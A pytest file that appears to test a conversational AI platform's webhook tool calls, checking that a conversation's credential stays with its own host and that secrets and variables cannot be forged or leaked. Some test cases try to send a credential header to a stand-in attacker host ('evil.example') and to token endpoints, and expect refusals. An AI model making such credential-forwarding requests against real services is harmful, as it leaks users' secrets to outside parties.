"""A tool's configuration, resolved and called as one conversation would."""

from typing import Any

import pytest
from conftest import Tenant
from support.api import Api, Reply
from support.talking import Stage, Talk, a_workspaces_secret

AUTHORIZATION = "secret__user_acme_authorization"


def tool(url: str, **api_schema: Any) -> dict[str, Any]:
    headers = {"Authorization": {"variable_name": AUTHORIZATION}}
    schema = {"url": url, "request_headers": headers, **api_schema}
    config = {"type": "webhook", "name": "get", "description": "Gets.", "api_schema": schema}
    return {"kind": "server_tool", "config": config}


async def invoke(talk: Talk, body: dict[str, Any], api: Api | None = None, **more: Any) -> Reply:
    asked = {"conversation_id": talk.conversation, **body, **more}
    return await (api or talk.api).post("/v1/tools/invoke", asked)


async def test_a_tool_is_called_with_the_conversations_own_credential(stage: Stage) -> None:
    bob = await stage.begin(user="bob")
    ada = await stage.begin(user="ada")
    for talk in (ada, bob):
        query = {"properties": {"who": {"type": "string", "dynamic_variable": "user_id"}}}
        wanted = tool(f"{talk.listens.base}/v1/me", query_params_schema=query)
        reply = await invoke(talk, wanted)
        assert (reply.status, reply.json["status"]) == (200, 200), reply.body
    assert [one.token for one in ada.listens.heard] == ada.tokens + bob.tokens
    assert [one.target for one in ada.listens.heard] == ["/v1/me?who=ada", "/v1/me?who=bob"]


async def test_what_is_shown_is_masked_and_fetches_nothing(stage: Stage) -> None:
    talk = await stage.begin()
    asked = {"conversation_id": talk.conversation, **tool(f"{talk.listens.base}/v1/me")}
    reply = await talk.api.post("/v1/resolve", {**asked, "explain": True})
    assert reply.status == 200, reply.body
    assert reply.json["request"]["headers"]["Authorization"]["value"] == "***"
    assert talk.tokens[0].encode() not in reply.body
    assert talk.listens.heard == []


async def test_the_environment_is_the_conversations(stage: Stage, tenant: Tenant) -> None:
    talk = await stage.begin()
    values = {"production": "prod", "staging": "stage"}
    label = {"type": "string", "label": "part", "values": values}
    assert (await tenant.api.post("/v1/convai/environment-variables", label)).status == 200
    wanted = tool(f"{talk.listens.base}/v1/{{{{system__env_part}}}}")
    assert (await invoke(talk, wanted)).status == 200
    assert talk.listens.heard[0].target == "/v1/prod"
    refused = await invoke(talk, wanted, environment="staging")
    assert (refused.status, refused.code) == (422, "invalid")


async def test_a_credential_goes_to_its_own_host_and_port_alone(stage: Stage) -> None:
    talk = await stage.begin()
    port = talk.listens.base.rpartition(":")[2]
    for url in (
        f"http://localhost:{port}/v1/me",
        f"https://127.0.0.1:{port}/v1/me",
        "http://127.0.0.1:9/v1/me",
        "https://evil.example/v1/me",
    ):
        reply = await invoke(talk, tool(url))
        assert reply.code in ("forbidden", "invalid"), (url, reply.body)
        assert talk.tokens[0].encode() not in reply.body
    for name in ("secret__user_acme_token", AUTHORIZATION):
        headers = {"X-Any": {"variable_name": name}}
        reply = await invoke(talk, tool("https://evil.example/x", request_headers=headers))
        assert (reply.status, reply.code) == (403, "forbidden")
    assert talk.listens.heard == []


@pytest.mark.parametrize("path", ["/oauth/token", "/v1/oauth/token", "/token", "/x/$batch"])
async def test_what_gives_tokens_out_is_not_called_this_way_either(stage: Stage, path: str) -> None:
    talk = await stage.begin()
    reply = await invoke(talk, tool(f"{talk.listens.base}{path}"))
    gateway = await talk.call("GET", f"acme{path}")
    assert (reply.status, gateway.status) in ((403, 403), (200, 200), (422, 422)), reply.body
    if path == "/x/$batch":
        assert reply.status == 403


async def test_what_the_conversation_holds_for_itself_goes_nowhere(stage: Stage) -> None:
    talk = await stage.begin()
    headers = {"Authorization": {"variable_name": "secret__keyturn_authorization"}}
    reply = await invoke(talk, tool(f"{talk.listens.base}/v1/me", request_headers=headers))
    assert (reply.status, reply.code) == (422, "invalid")
    assert talk.listens.heard == []


async def test_a_secret_of_the_workspace_is_not_sent_as_a_variable(
    stage: Stage, tenant: Tenant
) -> None:
    talk = await stage.begin(variables={"secret__k": await a_workspaces_secret(tenant.api)})
    headers = {"X-Key": {"variable_name": "secret__k"}}
    reply = await invoke(talk, tool(f"{talk.listens.base}/v1/me", request_headers=headers))
    assert (reply.status, reply.code) == (422, "invalid")
    assert talk.listens.heard == []


async def test_no_caller_replaces_what_the_conversation_has(stage: Stage) -> None:
    talk = await stage.begin()
    for name in (AUTHORIZATION, "user_id", "secret__x", "system__y"):
        reply = await invoke(
            talk, tool(f"{talk.listens.base}/v1/me"), dynamic_variables={name: "forged"}
        )
        assert (reply.status, reply.code) == (422, "invalid")
    assert talk.listens.heard == []


async def test_only_a_living_conversation_of_ones_own_workspace_is_asked(
    stage: Stage, stranger: Tenant
) -> None:
    talk = await stage.begin()
    wanted = tool(f"{talk.listens.base}/v1/me")
    assert (await invoke(talk, wanted, stranger.api)).code == "not_found"
    narrow = {"name": "k", "scopes": ["tools:invoke"], "environments": ["staging"]}
    key = (await talk.api.post("/v1/keys", narrow)).json["key"]
    assert (await invoke(talk, wanted, talk.anyone.with_key(key))).code == "not_found"
    # A grant names what is stored, and brings no configuration.
    assert (await invoke(talk, wanted, talk.anyone.with_key(talk.bearer))).status == 403
    assert (await talk.api.post(f"/v1/conversations/{talk.conversation}/end")).status == 200
    assert (await invoke(talk, wanted)).code == "not_found"
    assert (await invoke(talk, wanted, conversation_id="kcv_x")).code == "not_found"
    assert (await invoke(talk, wanted, conversation_id="no id")).code == "invalid"
    assert talk.listens.heard == []
